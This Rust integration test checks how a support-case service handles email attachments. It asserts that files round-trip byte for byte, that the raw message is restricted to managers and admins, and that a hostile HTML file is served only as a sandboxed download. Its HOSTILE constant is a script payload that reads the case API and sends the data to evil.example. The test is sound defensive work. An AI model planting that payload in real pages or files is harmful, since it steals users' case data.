//! Attachments of customer mail and the raw message (issue 14): listed on
//! the case, downloaded byte for byte, a hostile HTML file only ever as a
//! download, the raw message for managers and admins.

use base64::Engine;
use tocsin::app::Workers;
use tocsin::token::TokenRole;

use crate::harness::web::{browser, sign_in};
use crate::harness::*;

const HOSTILE: &str = "<html><body><script>fetch('/api/v1/cases').then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script></body></html>";

/// Every byte value, twice, so nothing is lost to a text conversion.
fn binary() -> Vec<u8> {
    (0..512u32).map(|i| (i % 256) as u8).collect()
}

fn mail_with_attachments() -> String {
    let b64 = base64::engine::general_purpose::STANDARD;
    let bin = b64.encode(binary());
    let html = b64.encode(HOSTILE);
    format!(
        "From: ops@acme.com\r\nTo: help@support.example.com\r\nSubject: Checkout is down, logs attached\r\n\
Message-ID: <att1@acme.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n\
--xyz\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nLogs attached.\r\n\
--xyz\r\nContent-Type: application/octet-stream; name=\"core.dump\"\r\nContent-Disposition: attachment; filename=\"core.dump\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{bin}\r\n\
--xyz\r\nContent-Type: text/html; charset=utf-8\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{html}\r\n--xyz--\r\n"
    )
}

#[tokio::test]
async fn attachments_round_trip_byte_for_byte_and_html_is_only_ever_a_download() {
    let t = TestApp::spawn(Workers::Manual).await;
    let hook = t.token("provider", TokenRole::Integration, None).await;
    let ops = t.token("ops", TokenRole::Admin, None).await;
    let boss = t.token("max", TokenRole::Manager, Some("max")).await;
    let ana = t.token("ana-phone", TokenRole::Engineer, Some("ana")).await;
    let chen = t.token("chen-phone", TokenRole::Engineer, Some("chen")).await;
    let raw = mail_with_attachments();
    let (s, r) = t.hook(&hook, &raw).await;
    assert_eq!((s, r["status"].as_str()), (202, Some("filed")), "{r}");
    let n = r["case"].as_i64().unwrap();
    t.app().tick().await.unwrap();

    let (_, c) = t.get(&format!("/api/v1/cases/{n}"), &ops).await;
    let list = c["attachments"].as_array().unwrap().clone();
    assert_eq!(list.len(), 2, "{c}");
    assert_eq!(
        (list[0]["name"].as_str(), list[0]["type"].as_str(), list[0]["size"].as_u64()),
        (Some("core.dump"), Some("application/octet-stream"), Some(512))
    );
    assert_eq!((list[1]["name"].as_str(), list[1]["type"].as_str()), (Some("invoice.html"), Some("text/html")));
    assert!(list[0]["at"].is_string() && list[0]["id"].is_i64());

    // Byte for byte.
    let url = |a: &serde_json::Value| t.url(&format!("/api/v1/cases/{n}/attachments/{}", a["id"]));
    let r = t.http.get(url(&list[0])).bearer_auth(&ops).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-disposition"], "attachment; filename=\"core.dump\"; filename*=UTF-8''core.dump");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(r.bytes().await.unwrap().to_vec(), binary());

    // The hostile HTML: its bytes, but only as an opaque download.
    let r = t.http.get(url(&list[1])).bearer_auth(&ops).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/octet-stream");
    assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert!(r.headers()["content-security-policy"].to_str().unwrap().contains("sandbox"));
    assert_eq!(r.text().await.unwrap(), HOSTILE);

    // Another case's attachment id, or none, is a 404; so is a case the
    // engineer may not see.
    let (s, _) = t.get(&format!("/api/v1/cases/{n}/attachments/999999"), &ops).await;
    assert_eq!(s, 404);
    let other = t.open_outage(&ops).await;
    let (s, _) = t.get(&format!("/api/v1/cases/{other}/attachments/{}", list[0]["id"]), &ops).await;
    assert_eq!(s, 404);
    let (s, _) = t.get(&format!("/api/v1/cases/{n}/attachments/{}", list[0]["id"]), &chen).await;
    assert_eq!(s, 404, "chen was never paged for it");

    // The dashboard links each from the timeline, as a download too.
    let (session, _) = sign_in(&t, &ana).await;
    let (_, html) = crate::harness::web::page(&t, &session, &format!("/cases/{n}")).await;
    let link = format!("/cases/{n}/attachments/{}", list[1]["id"]);
    assert!(html.contains(&format!("href=\"{link}\" download")), "{html}");
    let r = browser().get(t.url(&link)).header(reqwest::header::COOKIE, &session.cookie).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/octet-stream");
    assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    assert_eq!(r.text().await.unwrap(), HOSTILE);

    // The raw message: managers and admins only, as message/rfc822.
    let message = c["messages"][0]["id"].as_i64().unwrap();
    assert_eq!(list[0]["message"].as_i64(), Some(message));
    let path = format!("/api/v1/cases/{n}/messages/{message}");
    for tok in [&ops, &boss] {
        let r = t.http.get(t.url(&path)).bearer_auth(tok).send().await.unwrap();
        assert_eq!(r.status(), 200);
        assert_eq!(r.headers()["content-type"], "message/rfc822");
        assert!(r.headers()["content-disposition"].to_str().unwrap().starts_with("attachment;"));
        assert_eq!(r.bytes().await.unwrap().to_vec(), raw.as_bytes());
    }
    let (s, e) = t.get(&path, &ana).await;
    assert_eq!(s, 403, "{e}");
    let (s, _) = t.get(&format!("/api/v1/cases/{other}/messages/{message}"), &ops).await;
    assert_eq!(s, 404, "a message of another case");
}
